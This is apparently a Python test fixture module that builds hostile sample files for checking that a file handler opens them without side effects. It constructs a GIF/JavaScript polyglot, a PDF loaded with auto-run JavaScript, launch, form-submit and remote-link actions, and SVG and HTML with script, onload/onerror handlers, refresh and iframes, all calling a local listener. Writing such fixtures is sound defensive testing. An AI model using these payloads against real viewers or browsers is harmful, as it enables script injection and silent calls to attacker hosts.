"""Files as somebody might send them who wants something to happen on the other side. Each calls out in its own way.

What calls out does it with `alert` or towards `LISTENER`: neither may be seen when a handler opens the file.
"""

from __future__ import annotations

import struct
import zlib
from typing import TypedDict

LISTENER = "http://127.0.0.1:9/lyssnar"
SCRIPT = f"alert('inne'); fetch('{LISTENER}/fetch'); top.location = '{LISTENER}/top'; window.open('{LISTENER}/window')"


class Sent(TypedDict):
    """A file as a browser is handed it."""

    name: str
    mimeType: str
    buffer: bytes


def sent(name: str, media_type: str, content: bytes | str) -> Sent:
    """A file with the name and type that its sender claims."""
    return Sent(name=name, mimeType=media_type, buffer=content.encode() if isinstance(content, str) else content)


def png(width: int, height: int, *, claimed: tuple[int, int] | None = None, after: bytes = b"") -> bytes:
    """A picture in one colour. ``claimed``: what its header says of its size; ``after``: what follows its end."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))

    head = struct.pack(">IIBBBBB", *(claimed or (width, height)), 8, 2, 0, 0, 0)
    rows = zlib.compress((b"\0" + b"\x20\x90\x40" * width) * height)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"") + after


def gif() -> bytes:
    """A picture of one pixel that goes on as a script."""
    screen = struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\xff\0\0\0\0\0"
    frame = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\x00\x3b"
    return b"GIF89a" + screen + frame + b"*/=1;" + SCRIPT.encode()


def pdf(text: str, *, pages: int = 1) -> bytes:
    """A PDF whose document, pages and fields all want to do something when it is opened, turned or closed."""
    script = (
        f"<< /S /JavaScript /JS (app.alert('inne'); app.launchURL('{LISTENER}/js'); this.submitForm('{LISTENER}')) >>"
    )
    uri = f"<< /S /URI /URI ({LISTENER}/uri) >>"
    launch = f"<< /S /Launch /F ({LISTENER}/launch) /NewWindow true >>"
    form = f"<< /S /SubmitForm /F << /FS /URL /F ({LISTENER}/form) >> >>"
    remote = f"<< /S /GoToR /F << /FS /URL /F ({LISTENER}/far) >> /D [0 /Fit] >>"
    content = f"BT /F1 24 Tf 60 700 Td ({text}) Tj ET 1 0 0 rg 60 400 200 200 re f q 100 0 0 100 300 400 cm /X Do Q"
    stream = content.encode("latin-1")
    kids = " ".join(f"{7 + number} 0 R" for number in range(pages))
    objects = [
        (
            f"<< /Type /Catalog /Pages 2 0 R /OpenAction {script} /AA << /WC {script} /DC {uri} >> "
            f"/Names << /JavaScript << /Names [(a) {script}] >> >> /AcroForm << /Fields [6 0 R] /XFA (<x/>) >> >>"
        ),
        f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>",
        f"<< /Length {len(stream)} >>\nstream\n{content}\nendstream",
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>",
        (
            "<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray "
            f"/F << /FS /URL /F ({LISTENER}/picture) >> /Length 0 >>\nstream\n\nendstream"
        ),
        (
            f"<< /Type /Annot /Subtype /Widget /FT /Btn /T (b) /Rect [60 400 260 600] /A {form} "
            f"/AA << /E {script} /D {launch} /U {remote} >> >>"
        ),
        *[
            "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 3 0 R "
            f"/Resources << /Font << /F1 4 0 R >> /XObject << /X 5 0 R >> >> /AA << /O {script} /C {uri} >> "
            f"/Annots [6 0 R << /Type /Annot /Subtype /Link /Rect [60 400 260 600] /A {uri} >>] >>"
            for _ in range(pages)
        ],
    ]
    made, places = b"%PDF-1.7\n", []
    for number, entry in enumerate(objects, 1):
        places.append(len(made))
        made += f"{number} 0 obj\n{entry}\nendobj\n".encode("latin-1")
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    start = len(made)
    made += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n{table}".encode()
    return made + f"trailer << /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode()


SVG = (
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"><script>{SCRIPT}</script>'
    f'<image href="{LISTENER}/svg.png" width="9" height="9"/></svg>'
)
HTML = (
    f'<!doctype html><meta http-equiv="refresh" content="0;url={LISTENER}/refresh"><script>{SCRIPT}</script>'
    f'<img src="{LISTENER}/img" onerror="{SCRIPT}"><iframe src="{LISTENER}/frame"></iframe>'
)
